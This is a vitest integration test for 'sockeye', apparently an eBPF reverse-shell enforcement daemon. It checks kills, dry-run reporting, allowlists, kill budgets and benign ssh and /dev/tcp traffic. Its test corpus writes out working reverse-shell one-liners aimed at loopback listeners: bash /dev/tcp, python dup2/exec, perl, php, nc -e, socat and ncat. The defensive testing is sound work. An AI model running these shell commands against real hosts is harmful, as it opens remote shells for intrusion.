/**
 * Enforcement (docs/enforcement.md, issue 28) with the real daemon (`node dist/cli/main.js run`)
 * against loopback listeners that send `id` and count every byte that comes back in the 2 s
 * after ("bytes leaked").
 *
 * - `--enforce`: every direct reverse shell of the base corpus is stopped by the kernel path
 *   before it answers: zero bytes; relay shells are killed from userspace (bytes and latency
 *   printed); the benign corpus completes with zero kills.
 * - `--enforce=dry-run`: every process survives, every finding of theirs says would_block.
 * - safety: a close-on-exec socket is not judged at exec, an allowlisted interpreter is
 *   reported not killed, one uid past its budget falls back to dry-run alone (SENSOR-002), a
 *   relay in an allowlisted cgroup is reported not killed, one cgroup past its tree budget falls
 *   back alone, and a stopped daemon leaves nothing enforcing.
 */
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdirSync, mkdtempSync, rmdirSync, writeFileSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Finding } from "sockeye";
import { PYTHON, bpftoolProgramNames, cgroup2Root, exchange, freePort, kernelTier, listening, run, startSshd, tcpListener, type Sshd } from "./harness.js";

const tier = kernelTier();
const SOURCE = new URL("./helpers/stdio-socket-exec.c", import.meta.url).pathname;
const LEAK_WINDOW_MS = 2000;

interface EnforcedFinding extends Finding {
  destination?: { port: number };
}
interface Enforcement {
  action: string;
  where?: string;
  would_block: boolean;
  reason?: string;
  latency_ms?: number;
  targets: { pid: number; role: string; result?: string }[];
}
const enforcementOf = (f: Finding) => f.sockeye["enforcement"] as Enforcement | undefined;

/** `sockeye run` with findings collected from stdout (JSON lines) and its log from stderr. */
class Daemon {
  readonly findings: EnforcedFinding[] = [];
  stderr = "";
  private constructor(private readonly child: ChildProcess) {}

  static async start(args: string[]): Promise<Daemon> {
    const child = spawn(process.execPath, ["dist/cli/main.js", "run", "--format", "json", "--stats-interval", "0", ...args], { stdio: ["ignore", "pipe", "pipe"] });
    const daemon = new Daemon(child);
    let partial = "";
    child.stdout.on("data", (d: Buffer) => {
      partial += d.toString();
      const lines = partial.split("\n");
      partial = lines.pop()!;
      for (const line of lines) if (line.trim() !== "") daemon.findings.push(JSON.parse(line) as EnforcedFinding);
    });
    await new Promise<void>((resolve, reject) => {
      child.stderr.on("data", (d: Buffer) => {
        daemon.stderr += d.toString();
        if (daemon.stderr.includes('"sensor ready"')) resolve();
      });
      child.on("exit", (code) => reject(new Error(`sockeye run exited ${code} before ready: ${daemon.stderr}`)));
    });
    return daemon;
  }

  /** SIGTERM; resolves with the `stopped` line's enforcement summary. */
  async stop(): Promise<{ kernel: { execDenied: number; execKilled: number; dupKilled: number; signalFailed: number }; killed: number }> {
    if (this.child.exitCode === null && this.child.signalCode === null) {
      const exited = new Promise<void>((resolve) => this.child.on("exit", () => resolve()));
      this.child.kill("SIGTERM");
      await exited;
    }
    const stopped = this.stderr.split("\n").find((l) => l.includes('"message":"stopped"'));
    if (stopped === undefined) throw new Error(`no stopped line: ${this.stderr.slice(-2000)}`);
    return (JSON.parse(stopped) as { enforcement: { kernel: never; killed: number } }).enforcement;
  }

  /** Findings about a connection to `port`, waited for up to `ms`. */
  async findingsFor(port: number, ms = 8000): Promise<EnforcedFinding[]> {
    const deadline = Date.now() + ms;
    const mine = () => this.findings.filter((f) => f.destination?.port === port);
    while (mine().length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    await new Promise((r) => setTimeout(r, 300)); // the incident's later findings
    return mine();
  }
}

/** A listener that sends `id` to its first connection and counts the bytes that come back in the 2 s after. */
async function idListener(): Promise<{ port: number; leaked: Promise<number>; close(): void }> {
  const sockets = new Set<net.Socket>();
  let resolveLeaked!: (n: number) => void;
  const leaked = new Promise<number>((r) => (resolveLeaked = r));
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on("error", () => {});
    if (sockets.size > 1) return;
    let bytes = 0;
    s.on("data", (d: Buffer) => (bytes += d.length));
    s.write("id\n");
    setTimeout(() => resolveLeaked(bytes), LEAK_WINDOW_MS);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    leaked,
    close: () => {
      for (const s of sockets) s.destroy();
      server.close();
    },
  };
}

/** A shell case: the command, given the listener's port. */
type Case = { name: string; cmd: (port: number) => [string, string[]] };

function helperPath(): string {
  const helper = join(mkdtempSync(join(tmpdir(), "sockeye-enforce-")), "stdio-socket-exec");
  const cc = spawnSync("cc", ["-O2", "-o", helper, SOURCE], { encoding: "utf8" });
  if (cc.status !== 0) throw new Error(`cannot build the helper with cc: ${cc.error?.message ?? cc.stderr}`);
  return helper;
}

/** The kernel tier's base corpus of direct shells: the socket itself on the interpreter's stdio. */
function directShells(helper: string): Case[] {
  return [
    { name: "bash /dev/tcp", cmd: (p) => ["/bin/bash", ["-c", `exec bash -i >& /dev/tcp/127.0.0.1/${p} 0>&1`]] },
    { name: "python dup2 then exec", cmd: (p) => [PYTHON, ["-c", `import socket,os;s=socket.create_connection(("127.0.0.1",${p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])`]] },
    { name: "python dup2 and pty-less subprocess", cmd: (p) => [PYTHON, ["-c", `import socket,os,subprocess;s=socket.create_connection(("127.0.0.1",${p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])`]] },
    { name: "perl open >&S", cmd: (p) => ["/usr/bin/perl", ["-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("127.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`]] },
    { name: "php proc_open", cmd: (p) => ["/usr/bin/php", ["-r", `$s=fsockopen("127.0.0.1",${p});$h=proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$pipes);proc_close($h);`]] },
    { name: "busybox nc -e", cmd: (p) => ["/usr/bin/busybox", ["nc", "127.0.0.1", String(p), "-e", "/bin/sh"]] },
    { name: "socat EXEC nofork", cmd: (p) => ["/usr/bin/socat", [`TCP:127.0.0.1:${p}`, "EXEC:/bin/sh -i,nofork"]] },
    { name: "connect, dup2 onto 0-2, exec sh (nc -e's shape)", cmd: (p) => [helper, ["plain", String(p), "/bin/sh", "-i"]] },
  ];
}

/** Relays: the shell's stdio are pipes or a socketpair to a process holding the connection. */
const RELAYS: Case[] = [
  { name: "ncat -e (pipes)", cmd: (p) => ["/usr/bin/ncat", ["127.0.0.1", String(p), "-e", "/bin/sh"]] },
  { name: "socat EXEC (socketpair)", cmd: (p) => ["/usr/bin/socat", [`TCP:127.0.0.1:${p}`, "EXEC:/bin/sh"]] },
];

interface Outcome {
  leaked: number;
  /** The signal or exit status the case's first process ended with, or "alive" at the end of the window. */
  end: string;
  port: number;
  child: ChildProcess;
}

/** Runs one case against a fresh listener; the whole process group is killed afterwards. */
async function attempt(c: Case, opts: { uid?: number } = {}): Promise<Outcome> {
  const listener = await idListener();
  const [cmd, args] = c.cmd(listener.port);
  const child = spawn(cmd, args, { stdio: ["ignore", "ignore", "ignore"], detached: true, ...(opts.uid !== undefined ? { uid: opts.uid, gid: opts.uid } : {}) });
  let end = "alive";
  child.on("exit", (code, signal) => (end = signal ?? `exit ${code}`));
  const leaked = await Promise.race([listener.leaked, new Promise<number>((r) => setTimeout(() => r(-1), 15_000))]);
  // -1: the case never connected (it was stopped first, or failed): nothing leaked either way.
  await new Promise((r) => setTimeout(r, 200));
  const outcome = { leaked: Math.max(leaked, 0), end, port: listener.port, child };
  if (leaked === -1) outcome.end = end === "alive" ? "never connected" : end;
  listener.close();
  return outcome;
}

function killGroup(child: ChildProcess): void {
  try {
    process.kill(-child.pid!, "SIGKILL");
  } catch {
    // already gone
  }
}

function percentile(values: number[], q: number): number {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] ?? Number.NaN;
}

describe.runIf(tier.run)("kernel: enforcement (--enforce, --enforce=dry-run)", () => {
  let helper = "";
  beforeAll(() => {
    helper = helperPath();
  });

  describe("--enforce", () => {
    let daemon: Daemon;
    beforeAll(async () => {
      daemon = await Daemon.start(["--enforce"]);
    }, 60_000);
    afterAll(async () => {
      await daemon?.stop().catch(() => {});
    });

    it("the kernel path is live: the LSM where it is active, else the signal at exec", () => {
      expect(daemon.stderr).toMatch(/"message":"enforcement".*"kernel":"(lsm\/bprm_check_security|tp_btf\/sched_process_exec) \+ tp\/syscalls/);
    });

    it("every direct reverse shell of the base corpus is stopped in the kernel with zero bytes leaked", async () => {
      const results: { name: string; leaked: number; end: string }[] = [];
      for (const c of directShells(helper)) {
        const o = await attempt(c);
        killGroup(o.child);
        results.push({ name: c.name, leaked: o.leaked, end: o.end });
      }
      console.log("direct shells with --enforce:", JSON.stringify(results));
      for (const r of results) {
        expect(r.leaked, r.name).toBe(0);
        // php's parent outlives its killed child (proc_close returns); everything else dies of SIGKILL.
        if (r.name !== "php proc_open") expect(r.end, r.name).toBe("SIGKILL");
      }
    }, 180_000);

    it("relay shells are killed from userspace: the shell and the relay that made the connection", async () => {
      const rows: { name: string; leaked: number; latencyMs: number | undefined; end: string }[] = [];
      for (const c of RELAYS) {
        const o = await attempt(c);
        const findings = await daemon.findingsFor(o.port);
        killGroup(o.child);
        const killed = findings.map(enforcementOf).find((e) => e?.action === "killed");
        rows.push({ name: c.name, leaked: o.leaked, latencyMs: killed?.latency_ms, end: o.end });
        expect(killed, `${c.name}: ${JSON.stringify(findings.map(enforcementOf))}`).toMatchObject({ where: "userspace" });
        expect(killed!.targets.filter((t) => t.role === "shell").map((t) => t.result), c.name).toEqual(["killed"]);
        expect(o.end, c.name).toBe("SIGKILL"); // the relay itself, which made the connection
      }
      const latencies = rows.map((r) => r.latencyMs!).filter((n) => Number.isFinite(n));
      console.log("relays with --enforce:", JSON.stringify(rows), `kill latency p50 ${percentile(latencies, 0.5)} ms, p99 ${percentile(latencies, 0.99)} ms`);
    }, 120_000);

    it("a socket marked close-on-exec is not judged at exec: the program runs and exits as it chose", async () => {
      const listener = await idListener();
      const r = await run(helper, ["cloexec", String(listener.port), "/bin/sh", "-c", "exit 7"]);
      listener.close();
      expect(r.status).toBe(7);
    }, 30_000);

    it("the daemon stopped leaves nothing enforcing: the same shell then runs and answers", async () => {
      const stopped = await daemon.stop();
      console.log("kernel actions with --enforce:", JSON.stringify(stopped.kernel));
      expect(stopped.kernel.execKilled + stopped.kernel.execDenied + stopped.kernel.dupKilled).toBeGreaterThanOrEqual(directShells(helper).length);
      expect(bpftoolProgramNames().filter((n) => n.startsWith("enforce_"))).toEqual([]);
      const o = await attempt(directShells(helper).find((c) => c.name === "busybox nc -e")!);
      killGroup(o.child);
      expect(o.end).toBe("alive");
      expect(o.leaked).toBeGreaterThan(0);
    }, 60_000);
  });

  describe("--enforce=dry-run", () => {
    let daemon: Daemon;
    beforeAll(async () => {
      daemon = await Daemon.start(["--enforce=dry-run"]);
    }, 60_000);
    afterAll(async () => {
      await daemon?.stop().catch(() => {});
    });

    it("every shell survives and answers; every finding about it says would_block", async () => {
      const rows: { name: string; leaked: number; end: string; findings: number }[] = [];
      for (const c of [...directShells(helper), ...RELAYS]) {
        const o = await attempt(c);
        const findings = await daemon.findingsFor(o.port);
        const end = o.end;
        killGroup(o.child);
        rows.push({ name: c.name, leaked: o.leaked, end, findings: findings.length });
        // php's parent waits on its child; the other cases' first process is the shell or its relay.
        expect(end, c.name).toBe("alive");
        expect(o.leaked, c.name).toBeGreaterThan(0);
        expect(findings.length, c.name).toBeGreaterThan(0);
        for (const f of findings) expect(enforcementOf(f), `${c.name} ${f.rule.id}`).toMatchObject({ action: "would_block", would_block: true });
      }
      console.log("dry-run:", JSON.stringify(rows));
      const stopped = await daemon.stop();
      expect(stopped.kernel).toEqual({ execDenied: 0, execKilled: 0, dupKilled: 0, signalFailed: 0 });
      expect(stopped.killed).toBe(0);
    }, 240_000);
  });

  describe("safety: allowlist and budget", () => {
    let daemon: Daemon;
    const dir = mkdtempSync(join(tmpdir(), "sockeye-enforce-config-"));
    beforeAll(async () => {
      const config = join(dir, "sockeye.toml");
      writeFileSync(config, ['[enforce]', 'mode = "on"', "budget = { kills_per_uid = 2, window_s = 600 }", "[[enforce.allow]]", 'label = "lab python"', `executable = "${PYTHON}"`, ""].join("\n"), { mode: 0o600 });
      daemon = await Daemon.start(["--config", config]);
    }, 60_000);
    afterAll(async () => {
      await daemon?.stop().catch(() => {});
    });

    it("an allowlisted interpreter on a socket is reported, not killed (in the kernel or from userspace)", async () => {
      const o = await attempt({ name: "python -i on the socket", cmd: (p) => [helper, ["plain", String(p), PYTHON, "-i"]] });
      const findings = await daemon.findingsFor(o.port);
      killGroup(o.child);
      expect(o.end).toBe("alive");
      expect(o.leaked).toBeGreaterThan(0);
      expect(findings.length).toBeGreaterThan(0);
      for (const f of findings) expect(enforcementOf(f)).toMatchObject({ action: "none", would_block: false, reason: "allowlisted" });
    }, 60_000);

    it("a uid past its budget falls back to dry-run there only, with a SENSOR-002 finding", async () => {
      const nobody = 65534;
      const outcomes: Outcome[] = [];
      for (let i = 0; i < 3; i++) {
        const o = await attempt(RELAYS[0]!, { uid: nobody });
        await daemon.findingsFor(o.port);
        outcomes.push(o);
      }
      const actions = outcomes.map((o) => daemon.findings.filter((f) => f.destination?.port === o.port && f.rule.id === "RELAY-001").map((f) => enforcementOf(f)?.reason ?? enforcementOf(f)?.action));
      for (const o of outcomes) killGroup(o.child);
      expect(actions).toEqual([["killed"], ["killed"], ["budget"]]);
      expect(outcomes.map((o) => o.end)).toEqual(["SIGKILL", "SIGKILL", "alive"]);
      const trip = daemon.findings.filter((f) => f.rule.id === "SENSOR-002");
      expect(trip).toHaveLength(1);
      expect(trip[0]).toMatchObject({ user: { id: String(nobody) }, sockeye: { enforcement: { fallback: "dry-run", scope: "uid" } } });
      // root keeps its own budget.
      const root = await attempt(RELAYS[0]!);
      const rootFindings = await daemon.findingsFor(root.port);
      killGroup(root.child);
      expect(rootFindings.map(enforcementOf).some((e) => e?.action === "killed")).toBe(true);
      expect(root.end).toBe("SIGKILL");
    }, 120_000);
  });

  describe("safety: allowlist by cgroup and budget per process tree", () => {
    // Two cgroups made for the test under the v2 root: one allowlisted, one a tree of its own.
    const root = cgroup2Root();
    const tag = `sockeye-kt-${process.pid}`;
    const allowed = `/${tag}-allowed`;
    const tree = `/${tag}-tree`;
    let daemon: Daemon | undefined;
    const dir = mkdtempSync(join(tmpdir(), "sockeye-enforce-cgroup-"));
    /** The case run with its first process moved into `cgroup` before it starts (its children inherit it). */
    const inCgroup = (cgroup: string, c: Case): Case => ({
      name: `${c.name} in ${cgroup}`,
      cmd: (p) => {
        const [cmd, args] = c.cmd(p);
        return ["/bin/sh", ["-c", `echo $$ > '${root}${cgroup}/cgroup.procs' && exec "$@"`, "sh", cmd, ...args]];
      },
    });
    beforeAll(async () => {
      if (root === undefined) {
        if (process.env["CI"] !== undefined) throw new Error("this CI host mounts no cgroup v2 hierarchy: the cgroup allowlist and tree budget cannot be tested");
        return;
      }
      for (const c of [allowed, tree]) mkdirSync(`${root}${c}`, { recursive: true });
      const config = join(dir, "sockeye.toml");
      writeFileSync(
        config,
        ['[enforce]', 'mode = "on"', "budget = { kills_per_uid = 10, kills_per_tree = 1, window_s = 600 }", "[[enforce.allow]]", 'label = "test cgroup"', `cgroup = "${allowed}"`, ""].join("\n"),
        { mode: 0o600 },
      );
      daemon = await Daemon.start(["--config", config]);
    }, 60_000);
    afterAll(async () => {
      await daemon?.stop().catch(() => {});
      if (root !== undefined) {
        for (const c of [allowed, tree]) {
          try {
            rmdirSync(`${root}${c}`);
          } catch {
            // a process of a case still in it: the folder is left (empty cgroups cost nothing)
          }
        }
      }
    });

    it("an allow entry by cgroup keeps the kernel path out; a relay there is reported, not killed", async () => {
      if (daemon === undefined) return console.warn("no cgroup v2 mount on this host: cgroup allowlist not run");
      expect(daemon.stderr).toMatch(/kernel path not loaded, as allow entries name a unit or cgroup/);
      const o = await attempt(inCgroup(allowed, RELAYS[0]!));
      const findings = await daemon.findingsFor(o.port);
      killGroup(o.child);
      expect(o.end).toBe("alive");
      expect(o.leaked).toBeGreaterThan(0);
      expect(findings.length).toBeGreaterThan(0);
      for (const f of findings) expect(enforcementOf(f), f.rule.id).toMatchObject({ action: "none", reason: "allowlisted", allow_label: "test cgroup", allow_cgroup: allowed });
    }, 60_000);

    it("a cgroup past its tree budget falls back to dry-run alone; the same uid elsewhere is still killed", async () => {
      if (daemon === undefined) return console.warn("no cgroup v2 mount on this host: tree budget not run");
      const outcomes: Outcome[] = [];
      for (let i = 0; i < 2; i++) {
        const o = await attempt(inCgroup(tree, RELAYS[0]!));
        await daemon.findingsFor(o.port);
        outcomes.push(o);
      }
      const relayFindings = (port: number) => daemon!.findings.filter((f) => f.destination?.port === port && f.rule.id === "RELAY-001").map((f) => enforcementOf(f) as Enforcement & { budget_scope?: string; tree?: string });
      const results = outcomes.map((o) => relayFindings(o.port));
      for (const o of outcomes) killGroup(o.child);
      expect(results).toMatchObject([[{ action: "killed", tree }], [{ action: "would_block", reason: "budget", budget_scope: "tree", tree }]]);
      expect(outcomes.map((o) => o.end)).toEqual(["SIGKILL", "alive"]);
      const trip = daemon.findings.filter((f) => f.rule.id === "SENSOR-002");
      expect(trip).toHaveLength(1);
      expect(trip[0]).toMatchObject({ user: { id: "0" }, sockeye: { enforcement: { fallback: "dry-run", scope: "tree", tree } } });
      // root outside that tree (the test's own cgroup) is still killed.
      const elsewhere = await attempt(RELAYS[0]!);
      const found = await daemon.findingsFor(elsewhere.port);
      killGroup(elsewhere.child);
      expect(found.map(enforcementOf).some((e) => e?.action === "killed"), JSON.stringify(found.map(enforcementOf))).toBe(true);
      expect(elsewhere.end).toBe("SIGKILL");
    }, 120_000);
  });

  describe("benign corpus with --enforce: zero kills", () => {
    let daemon: Daemon;
    const servers: ChildProcess[] = [];
    let sshd: Sshd | undefined;

    beforeAll(async () => {
      daemon = await Daemon.start(["--enforce"]);
      sshd = await startSshd();
    }, 60_000);
    afterAll(async () => {
      for (const s of servers) s.kill("SIGTERM");
      await sshd?.stop();
      await daemon?.stop().catch(() => {});
    });

    it("ssh, an ssh -tt login, scp, git over ssh, socket-activated services and /dev/tcp health checks complete normally", async () => {
      const { port: sshPort, dir, clientOptions } = sshd!;
      const target = ["-p", String(sshPort), "root@127.0.0.1"];
      const cmd = await run("ssh", [...clientOptions, ...target, "id -u; echo done"]);
      expect(cmd.stdout, cmd.stderr).toBe("0\ndone\n");
      const login = await run("ssh", [...clientOptions, "-tt", ...target], "id -u\nexit\n");
      expect(login.status, login.stderr).toBe(0);
      writeFileSync(join(dir, "payload"), "payload\n");
      const scp = await run("scp", [...clientOptions, "-P", String(sshPort), join(dir, "payload"), `root@127.0.0.1:${join(dir, "copied")}`]);
      expect(scp.status, scp.stderr).toBe(0);
      spawnSync("git", ["init", "-q", "--bare", join(dir, "repo.git")]);
      const git = spawnSync("git", ["clone", "-q", `ssh://root@127.0.0.1:${sshPort}${join(dir, "repo.git")}`, join(dir, "clone")], {
        encoding: "utf8", env: { ...process.env, GIT_SSH_COMMAND: ["ssh", ...clientOptions].join(" ") },
      });
      expect(git.status, git.stderr).toBe(0);

      // Socket-activated services: the accepted connection on a program's (and a shell's) stdio.
      for (const start of [
        (p: number) => spawn("systemd-socket-activate", ["--accept", "--inetd", "-l", `127.0.0.1:${p}`, "/bin/cat"]),
        (p: number) => spawn("systemd-socket-activate", ["--accept", "-l", `127.0.0.1:${p}`, "/bin/sh", "-c", "cat <&3 >&3"]),
        (p: number) => spawn("systemd-socket-activate", ["--accept", "--inetd", "-l", `127.0.0.1:${p}`, "/bin/sh", "-c", "read line; echo \"$line\""]),
        (p: number) => spawn(PYTHON, ["-c", `import socket,subprocess
s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(("127.0.0.1",${p}));s.listen(4)
while True:
    c,_=s.accept();subprocess.Popen(["/bin/cat"],stdin=c,stdout=c).wait();c.close()`]),
      ]) {
        const port = await freePort();
        const child = start(port);
        servers.push(child);
        await listening(port);
        expect(await exchange(port, "ping\n")).toBe("ping\n");
        child.kill("SIGTERM");
      }

      // Health checks and probes over bash's /dev/tcp.
      const http = await tcpListener("127.0.0.1", "HTTP/1.0 200 OK\r\n\r\nOK\n");
      const p = http.port;
      for (const check of [
        `exec 3<>/dev/tcp/127.0.0.1/${p}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3`,
        `exec 3<>/dev/tcp/127.0.0.1/${p}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; read -r status <&3; [ -n "$status" ]`,
        `</dev/tcp/127.0.0.1/${p}`,
        `timeout 5 bash -c 'cat < /dev/tcp/127.0.0.1/${p}' >/dev/null`,
      ]) {
        const r = await run("bash", ["-c", check]);
        expect(r.status, `${check}: ${r.stderr}`).toBe(0);
      }
      await http.close();
      await new Promise((r) => setTimeout(r, 1000));
      const stopped = await daemon.stop();
      expect(stopped.kernel).toEqual({ execDenied: 0, execKilled: 0, dupKilled: 0, signalFailed: 0 });
      expect(stopped.killed).toBe(0);
      expect(daemon.findings.filter((f) => ["killed", "exec_denied"].includes(enforcementOf(f)?.action ?? ""))).toEqual([]);
    }, 180_000);
  });
});
